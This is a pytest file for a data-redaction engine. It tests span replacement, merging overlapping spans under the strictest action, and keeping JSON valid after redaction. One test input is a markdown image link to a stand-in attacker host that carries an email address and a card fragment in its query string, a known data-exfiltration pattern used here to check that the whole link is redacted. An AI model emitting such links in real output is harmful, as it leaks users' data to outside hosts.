import json

import pytest

from redoubt.domain.decision import Action, Obligation
from redoubt.domain.exchange import Syntax
from redoubt.domain.finding import Finding
from redoubt.engine.redact.apply import apply
from redoubt.engine.redact.chunks import Remark


def due(start: int, end: int, action: Action = Action.REDACT, rule: str = "r") -> Obligation:
    return Obligation(Finding("finance.card", "d", start, end), action, rule)


def over(text: str, part: str, action: Action = Action.REDACT) -> Obligation:
    return due(text.index(part), text.index(part) + len(part), action)


def hide(_: Obligation, value: str) -> str:
    return f'<{len(value)}"\n>'


def test_each_span_is_replaced_and_remarked() -> None:
    done = apply("abc def abc", [due(8, 11), due(0, 3, Action.MASK, "m")], replace=lambda o, v: v[0] * 2)
    assert done.text == "aa def aa"
    assert done.remarks == (
        Remark(0, 2, "m", Action.MASK, "finance.card"),
        Remark(7, 9, "r", Action.REDACT, "finance.card"),
    )


@pytest.mark.parametrize("action", [Action.FLAG, Action.HOLD, Action.DENY])
def test_what_changes_no_text_changes_no_text(action: Action) -> None:
    assert apply("abc", [due(0, 3, action)], replace=hide).text == "abc"


def test_overlapping_spans_are_one_under_the_strictest() -> None:
    done = apply(
        "abcdef", [due(0, 4, Action.MASK, "m"), due(2, 6, Action.REDACT, "r")], replace=lambda o, v: o.rule
    )
    assert done.text == "r"
    assert [r.rule for r in done.remarks] == ["r"]


def test_a_passage_and_the_values_in_it_are_one_whatever_is_due_of_them() -> None:
    text = "see ![a](https://evil.example/?m=jane@acme.example&c=4111) now"
    values = [over(text, "jane@acme.example", Action.PSEUDONYMISE), over(text, "4111", Action.FLAG)]
    for action in (Action.REDACT, Action.MASK):
        link = over(text, text[4:-4], action)
        for given in ([link, *values], [*values, link]):
            done = apply(text, given, replace=lambda o, v: f"<{o.action.name} {len(v)}>")
            strictest = max(action, Action.PSEUDONYMISE).name
            assert done.text == f"see <{strictest} {len(text) - 8}> now"
            assert len(done.remarks) == 1


def test_spans_beyond_the_text_are_cut_to_it() -> None:
    assert apply("abc", [due(-5, 1), due(2, 99), due(50, 60)], replace=lambda o, v: "#").text == "#b#"


@pytest.mark.parametrize(
    ("text", "part", "after"),
    [
        ('{"a": "x 4111 y"}', "4111", {"a": 'x <4"\n> y'}),
        ('{"a": 4111, "b": 1}', "4111", {"a": '<4"\n>', "b": 1}),
        ('{"a": -4111.5e3}', "4111", {"a": '<9"\n>'}),
        ('{"a": [true,null]}', "rue", {"a": ['<4"\n>', None]}),
        ('{"a": "4111", "b": 2}', '"4111", "b"', {"a": '<4"\n>', '<1"\n>': 2}),
        (r'{"a": "\u0034\u0031x"}', r"0034\u00", {"a": '<2"\n>x'}),
        (r'{"a": "{\"b\": \"4111\"}"}', "4111", {"a": '{"b": "<4"\n>"}'}),
        ("4111", "4111", '<4"\n>'),
    ],
)
def test_json_stays_json(text: str, part: str, after: object) -> None:
    assert json.loads(apply(text, [over(text, part)], syntax=Syntax.JSON, replace=hide).text) == after


def test_two_spans_in_one_number_replace_it_once() -> None:
    done = apply("[41114222]", [due(1, 5), due(5, 9)], syntax=Syntax.JSON, replace=lambda o, v: "#")
    assert done.text == '["#"]'


def test_a_replacement_is_given_the_plain_value() -> None:
    seen: list[str] = []
    text = r'"ann\u0040x.example"'
    apply(text, [due(1, len(text) - 1)], syntax=Syntax.JSON, replace=lambda o, v: seen.append(v) or "")  # type: ignore[func-returns-value]
    assert seen == ["ann@x.example"]
